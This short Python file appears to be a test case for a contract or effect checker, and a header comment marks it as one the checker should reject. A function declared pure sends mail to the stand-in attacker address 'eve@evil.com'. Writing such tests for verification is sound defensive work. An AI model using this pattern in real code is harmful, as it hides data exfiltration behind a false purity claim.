# rejected: nor with assumptions of its own
import clauz3
import deal
from tools.switched.trusted import contracts as c
from tools.switched.trusted.effects import mail


@deal.pure
@clauz3.guarantee(c.none())
def main() -> None:
    mail("eve@evil.com", "x")
